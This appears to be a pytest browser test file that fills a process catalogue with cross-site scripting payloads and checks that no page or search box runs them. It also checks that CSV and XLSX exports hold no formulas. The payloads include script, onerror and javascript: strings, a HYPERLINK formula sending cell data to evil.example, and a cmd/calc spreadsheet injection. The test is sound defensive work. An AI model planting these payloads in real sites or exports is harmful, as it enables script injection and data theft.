"""Hostile text in a process file never runs in a reader's browser (real build, real Chromium).

A process whose every text field carries an XSS payload is built with ``autoproces build`` and
opened in Debian's Chromium: its page, the home page, browse pages, the dashboard, the open-data
page and the catalogue search. No payload may run: no dialog, no console marker,
``window.__xss`` stays undefined, and no injected element or event attribute is in the DOM.
The payloads' text must still be visible as text (so the test sees the fields it attacks).
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest

from tests.conftest import copy_project, run_cli
from tests.support.server import serve_directory

pytestmark = pytest.mark.browser

TITLE = '"><img src=x onerror=window.__xss=1>{{7*7}}'
UMBRELLA_TITLE = "<svg onload=window.__xss=2>Paraply</svg>"
MARKDOWN = "\n\n".join([
    "Almindelig tekst med **fed** og xssord.",
    "<script>window.__xss=3;console.log('XSSMARKER')</script>",
    "<img src=x onerror=\"window.__xss=4;alert('XSS')\">",
    "[klik](javascript:window.__xss=5) og <a href=\"javascript:window.__xss=6\">klik</a>",
    "<svg onload=window.__xss=7></svg> <details open ontoggle=window.__xss=8>x</details>",
    "<iframe src=\"javascript:window.__xss=9\"></iframe> <form><button formaction=javascript:alert(1)>x</button></form>",
    "<a href=\"https://ok.example\" onclick=\"window.__xss=10\">ok</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=11>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__xss=12>\">",
])
PLAIN = "<img src=x onerror=window.__xss=13> </textarea><script>window.__xss=14</script>"
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'

INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.getAttributeNames()) {
      if (attr.toLowerCase().startsWith('on')) found.push(el.tagName + '[' + attr + ']');
    }
  }
  for (const a of document.querySelectorAll('a[href], iframe[src], form[action], [formaction]')) {
    const url = (a.getAttribute('href') || a.getAttribute('src') || a.getAttribute('action') ||
                 a.getAttribute('formaction') || '').trim().toLowerCase();
    if (url.startsWith('javascript:') || url.startsWith('data:')) found.push(a.tagName + ' ' + url);
  }
  for (const el of document.querySelectorAll('img[src="x"], svg[onload], iframe, details[ontoggle], mglyph'))
    found.push('element ' + el.tagName);
  for (const s of document.querySelectorAll('script'))
    if ((s.textContent || '').includes('__xss')) found.push('script ' + s.textContent.slice(0, 40));
  return found;
}"""


def _process(**fields) -> dict:
    data = {
        "title": TITLE,
        "short_description": "<script>window.__xss=15</script><svg onload=window.__xss=16> xssord resumé",
        "municipality": "aarhus",
        "phase": "operation",
        "status": "inprogress",
        "visibility": "public",
        "contact": {"name": "<img src=x onerror=window.__xss=17>", "email": "digitalisering@aarhus.dk",
                    "role": PLAIN},
        "other_contact_email": "digitalisering@aarhus.dk",
        "kl_id": "<svg onload=window.__xss=18>",
        "vendor": FORMULA,
        "search_words": ["xssord", "<img src=x onerror=window.__xss=19>", "@SUM(1+1)*cmd|' /C calc'!A0"],
        "long_description": MARKDOWN,
        "solution_requests": MARKDOWN,
        "process_challenges": MARKDOWN,
        "status_text": MARKDOWN,
        "time_spend_comment": MARKDOWN,
        "technical_implementation_notes": MARKDOWN,
        "organizational_implementation_notes": MARKDOWN,
        "automation_description": MARKDOWN,
        "rating_comment": MARKDOWN,
        "legal_clause": PLAIN,
        "it_systems_description": PLAIN,
        "technologies": ["uipath"],
        "run_period": "daily",
        "put_into_operation": "2024-01-01",
        "links": [{"url": "https://x.example/\"><img/src=x/onerror=window.__xss=20>",
                   "title": "<svg onload=window.__xss=21>link"}],
    }
    data.update(fields)
    return data


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    project = copy_project(tmp_path_factory.mktemp("xss"), processes=False)
    folder = project / "processes" / "aarhus"
    folder.mkdir(parents=True)
    umbrella = {"title": UMBRELLA_TITLE, "short_description": "<b>paraply</b>", "municipality": "aarhus",
                "phase": "idea", "status": "inprogress", "visibility": "public", "type": "global_parent",
                "contact": {"name": "Digitalisering", "email": "digitalisering@aarhus.dk"}}
    (folder / "paraply.yaml").write_text(json.dumps(umbrella, ensure_ascii=False), encoding="utf-8")
    (folder / "fjendtlig.yaml").write_text(json.dumps(_process(umbrellas=["aarhus/paraply"]), ensure_ascii=False),
                                           encoding="utf-8")
    site = project / "site"
    result = run_cli("build", "--site-dir", str(site), cwd=project)
    assert result.returncode == 0, result.stdout + result.stderr
    return site


class Watch:
    """Dialogs and console markers seen by a page."""

    def __init__(self, page):
        self.events: list[str] = []
        page.on("dialog", lambda dialog: (self.events.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("console", lambda msg: self.events.append(f"console {msg.text}") if "XSS" in msg.text else None)
        page.on("pageerror", lambda error: self.events.append(f"pageerror {error}") if "__xss" in str(error) else None)


def assert_inert(page, watch: Watch, where: str) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("() => typeof window.__xss") == "undefined", where
    assert page.evaluate(INJECTED) == [], where
    assert watch.events == [], where


PAGES = ["processer/aarhus/fjendtlig/", "processer/aarhus/paraply/", "", "organisationer/aarhus/", "faser/operation/",
         "teknologier/uipath/", "overblik/", "gennemse/", "data/"]


def test_no_payload_runs_on_any_page(hostile_site, page):
    watch = Watch(page)
    with serve_directory(hostile_site) as base:
        for path in PAGES:
            response = page.goto(base + path)
            assert response is not None and response.ok, path
            assert_inert(page, watch, path)


def test_the_payloads_are_shown_as_text(hostile_site, page):
    with serve_directory(hostile_site) as base:
        page.goto(base + "processer/aarhus/fjendtlig/")
        text = page.inner_text("body")
        assert TITLE in text  # the title is text, {{7*7}} is not evaluated
        assert "<img src=x onerror=window.__xss=17>" in text  # the contact's name
        assert "Almindelig tekst med fed og xssord." in text  # Markdown is still rendered
        assert UMBRELLA_TITLE in text  # the umbrella's title on the child's page
        assert page.title().startswith(TITLE)


def test_search_results_show_hostile_titles_as_text(hostile_site, page):
    ui = hostile_site / "assets" / "search"
    assert (hostile_site / "soeg" / "index.html").is_file() and any(ui.glob("*ui*.js"))  # the search is always built
    watch = Watch(page)
    with serve_directory(hostile_site) as base:
        page.goto(base + "soeg/?q=xssord")
        page.wait_for_function("() => document.querySelector('#ap-search-body') && "
                               "document.querySelector('#ap-search-body').innerText.includes('onerror')",
                               timeout=15000)
        assert TITLE in page.inner_text("#ap-search-body")
        assert_inert(page, watch, "search ?q=xssord")
        page.fill("#ap-search-q", "<img src=x onerror=window.__xss=22>")
        page.keyboard.press("Enter")
        assert_inert(page, watch, "search typed payload")


def test_the_header_search_box_shows_hostile_text_as_text(hostile_site, page):
    """The search box in the header (Material's, or a form to the catalogue search) with a hostile query."""
    watch = Watch(page)
    with serve_directory(hostile_site) as base:
        page.goto(base + "overblik/")
        page.locator("input.md-search__input").click()
        page.keyboard.type("onerror")
        page.keyboard.press("Enter")
        page.wait_for_function(
            "() => [...document.querySelectorAll('.md-search-result, #ap-search-body')]"
            ".some(el => el.innerText.includes('onerror=window.__xss=1'))", timeout=15000)
        assert_inert(page, watch, "header search")


def test_exports_hold_no_spreadsheet_formulas(hostile_site):
    """CSV and XLSX cells never start a formula (=, +, -, @), whatever the process file says."""
    import csv

    import openpyxl

    number = re.compile(r"^[-+]?\d+([.,]\d+)?$")
    text = (hostile_site / "api" / "processes.csv").read_text(encoding="utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(c)] == []
    book = openpyxl.load_workbook(hostile_site / "api" / "processes.xlsx")
    values = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in values)
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    # A text cell starting with '=' is text in XLSX (it is stored as a string, not a formula).
